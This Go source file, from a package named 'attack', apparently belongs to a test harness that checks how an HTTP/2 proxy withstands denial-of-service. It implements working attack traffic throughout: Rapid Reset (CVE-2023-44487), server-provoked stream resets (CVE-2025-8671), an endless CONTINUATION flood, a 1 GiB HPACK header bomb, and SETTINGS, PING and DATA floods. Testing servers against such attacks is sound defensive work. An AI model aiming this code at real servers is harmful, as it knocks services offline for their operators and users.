package attack

import (
	"context"
	"time"

	"golang.org/x/net/http2"
)

// provoke sends one stream that the proxy must reset (or the client
// resets itself), on stream id.
type provoke func(c *conn, id uint32) error

// resets opens stream after stream on one connection, each ended by a
// reset, until the proxy ends the connection or s.Streams were sent.
func (s Scale) resets(p provoke) func(context.Context, Target, func()) (Outcome, error) {
	return func(ctx context.Context, t Target, _ func()) (Outcome, error) {
		c, err := dial(ctx, t, dialOpts{})
		if err != nil {
			return Outcome{}, err
		}
		defer c.close()
		var o Outcome
		for id := uint32(1); o.Sent < s.Streams && !c.ended() && ctx.Err() == nil; id += 2 {
			if p(c, id) != nil {
				break
			}
			o.Sent++
		}
		c.awaitEnd(ctx, time.Second)
		o.add(c)
		return o, nil
	}
}

// held is a request that the test backend holds open.
func (c *conn) held(method string, extra ...string) []byte {
	return c.request(method, append([]string{HoldHeader, "1"}, extra...)...)
}

// rapidReset: a request, cancelled at once by the client (CVE-2023-44487).
func rapidReset(c *conn, id uint32) error {
	return c.write(func(fr *http2.Framer) error {
		if err := fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: c.held(duplexMethod), EndHeaders: true}); err != nil {
			return err
		}
		return fr.WriteRSTStream(id, http2.ErrCodeCancel)
	})
}

// The provoked resets (CVE-2025-8671): stream errors a client causes on
// purpose so that the server resets the stream and frees its slot.

// windowUpdateZero: a WINDOW_UPDATE of 0 on an open stream.
func windowUpdateZero(c *conn, id uint32) error {
	return c.write(func(fr *http2.Framer) error {
		if err := fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: c.held(duplexMethod), EndHeaders: true}); err != nil {
			return err
		}
		return fr.WriteWindowUpdate(id, 0)
	})
}

// dataAfterEnd: DATA on a stream the client already half-closed.
func dataAfterEnd(c *conn, id uint32) error {
	return c.write(func(fr *http2.Framer) error {
		if err := fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: c.held(duplexMethod), EndHeaders: true}); err != nil {
			return err
		}
		if err := fr.WriteData(id, true, message(0)); err != nil {
			return err
		}
		return fr.WriteData(id, false, message(0))
	})
}

// selfDependency: a PRIORITY frame making a stream depend on itself.
func selfDependency(c *conn, id uint32) error {
	return c.write(func(fr *http2.Framer) error {
		if err := fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: c.held(duplexMethod), EndHeaders: true}); err != nil {
			return err
		}
		return fr.WritePriority(id, http2.PriorityParam{StreamDep: id, Weight: 15})
	})
}

// trailersNoEnd: a second header block (trailers) without END_STREAM.
func trailersNoEnd(c *conn, id uint32) error {
	return c.write(func(fr *http2.Framer) error {
		if err := fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: c.held(duplexMethod), EndHeaders: true}); err != nil {
			return err
		}
		if err := fr.WriteData(id, false, message(0)); err != nil {
			return err
		}
		trailers := c.block(hf("x-trailer", "1"))
		return fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: trailers, EndHeaders: true})
	})
}

// contentLength: a body longer than the content-length the request
// declared.
func contentLength(c *conn, id uint32) error {
	return c.write(func(fr *http2.Framer) error {
		if err := fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: c.held(duplexMethod, "content-length", "5"), EndHeaders: true}); err != nil {
			return err
		}
		return fr.WriteData(id, true, message(5))
	})
}

// frame sends the i-th frame of a flood; frame 0 may set the flood up.
type frame func(c *conn, i int) error

// flood sends frame after frame on one connection until the proxy ends
// the connection or s.Frames were sent.
func (s Scale) flood(f frame) func(context.Context, Target, func()) (Outcome, error) {
	return func(ctx context.Context, t Target, _ func()) (Outcome, error) {
		c, err := dial(ctx, t, dialOpts{})
		if err != nil {
			return Outcome{}, err
		}
		defer c.close()
		// The handshake first: the reader's SETTINGS ACK must not fall
		// inside a header block the flood leaves open, or the proxy
		// rightly ends the connection with PROTOCOL_ERROR instead of
		// showing how it stops the flood.
		select {
		case <-c.settled:
		case <-c.gone:
		case <-ctx.Done():
		}
		var o Outcome
		for ; o.Sent < s.Frames && !c.ended() && ctx.Err() == nil; o.Sent++ {
			if f(c, o.Sent) != nil {
				break
			}
		}
		c.awaitEnd(ctx, time.Second)
		o.add(c)
		return o, nil
	}
}

// continuationFlood: a header block that never ends, in empty
// CONTINUATION frames.
func continuationFlood(c *conn, i int) error {
	if i == 0 {
		blk := c.request(duplexMethod)
		return c.write(func(fr *http2.Framer) error {
			return fr.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: blk[:1]})
		})
	}
	return c.write(func(fr *http2.Framer) error { return fr.WriteContinuation(1, false, nil) })
}

// bombChunk is the header bytes of one CONTINUATION frame of the bomb.
var bombChunk = func() []byte {
	b := make([]byte, 16<<10)
	for i := range b {
		b[i] = 'a'
	}
	return b
}()

// continuationBomb: one header whose value (declared 1 GiB) arrives in
// full CONTINUATION frames, a header block that only grows.
func continuationBomb(c *conn, i int) error {
	if i == 0 {
		blk := c.request(duplexMethod)
		// A literal header field without indexing, new name (RFC 7541
		// §6.2.2), whose value is never finished.
		blk = append(blk, 0x00)
		blk = appendHpackInt(blk, 7, 0, uint64(len("x-bomb")))
		blk = append(blk, "x-bomb"...)
		blk = appendHpackInt(blk, 7, 0, 1<<30)
		return c.write(func(fr *http2.Framer) error {
			return fr.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: blk})
		})
	}
	return c.write(func(fr *http2.Framer) error { return fr.WriteContinuation(1, false, bombChunk) })
}

// appendHpackInt appends v as an HPACK integer with an n-bit prefix
// (RFC 7541 §5.1), the prefix byte's other bits set from flags.
func appendHpackInt(b []byte, n uint, flags byte, v uint64) []byte {
	limit := uint64(1)<<n - 1
	if v < limit {
		return append(b, flags|byte(v))
	}
	b = append(b, flags|byte(limit))
	for v -= limit; v >= 128; v >>= 7 {
		b = append(b, byte(v&0x7f)|0x80)
	}
	return append(b, byte(v))
}

// settingsFlood: SETTINGS frames, each of which the server must apply
// and acknowledge.
func settingsFlood(c *conn, _ int) error {
	return c.write(func(fr *http2.Framer) error {
		return fr.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 65535})
	})
}

// pingFlood: PING frames, each of which the server must answer.
func pingFlood(c *conn, i int) error {
	data := [8]byte{byte(i >> 24), byte(i >> 16), byte(i >> 8), byte(i)}
	return c.write(func(fr *http2.Framer) error { return fr.WritePing(false, data) })
}

// holdStream1 opens stream 1 as a held call, for the DATA floods.
func holdStream1(c *conn) error {
	blk := c.held(duplexMethod)
	return c.headers(1, blk, false)
}

// emptyDataFlood: DATA frames without payload on an open stream.
func emptyDataFlood(c *conn, i int) error {
	if i == 0 {
		return holdStream1(c)
	}
	return c.write(func(fr *http2.Framer) error { return fr.WriteData(1, false, nil) })
}

// padding of each frame of the padded flood.
var padding = make([]byte, 16)

// paddedDataFlood: PADDED DATA frames without payload on an open stream:
// the padding is flow-controlled, but a server that credits it back at
// once spends no window on them.
func paddedDataFlood(c *conn, i int) error {
	if i == 0 {
		return holdStream1(c)
	}
	return c.write(func(fr *http2.Framer) error { return fr.WriteDataPadded(1, false, nil, padding) })
}
